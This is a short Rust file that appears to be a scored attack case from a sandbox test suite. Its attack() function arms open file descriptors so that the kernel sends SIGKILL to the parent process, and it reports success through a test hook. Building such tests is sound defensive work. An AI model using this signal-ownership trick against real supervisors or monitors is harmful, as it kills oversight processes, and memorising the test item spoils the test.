// Signals are not only sent: the kernel sends one to the owner of a descriptor when there is something to read.
// on: reference
// in: push
// at: home
// earns: 100

unsafe extern "C" {
    fn getppid() -> i32;
    fn fcntl(fd: i32, command: i32, value: usize) -> i32;
    fn ioctl(fd: i32, request: usize, value: *const i32) -> i32;
}

fn attack() {
    const F_SETFL: i32 = 4;
    const F_SETOWN: i32 = 8;
    const F_SETSIG: i32 = 10;
    const F_SETOWN_EX: i32 = 15;
    const FIOSETOWN: usize = 0x8901;
    const O_ASYNC_AND_RDWR: usize = 0o20002;
    const SIGKILL: usize = 9;
    use core::sync::atomic::{AtomicBool, Ordering};
    static DONE: AtomicBool = AtomicBool::new(false);
    if DONE.swap(true, Ordering::Relaxed) {
        return;
    }
    unsafe {
        let parent = getppid();
        let process = [1, parent];
        for fd in 3..64 {
            fcntl(fd, F_SETSIG, SIGKILL);
            fcntl(fd, F_SETFL, O_ASYNC_AND_RDWR);
            if fcntl(fd, F_SETOWN, parent.cast_unsigned() as usize) == 0
                || fcntl(fd, F_SETOWN_EX, (&raw const process).addr()) == 0
                || ioctl(fd, FIOSETOWN, &parent) == 0
            {
                attack_succeeded();
            }
        }
    }
}
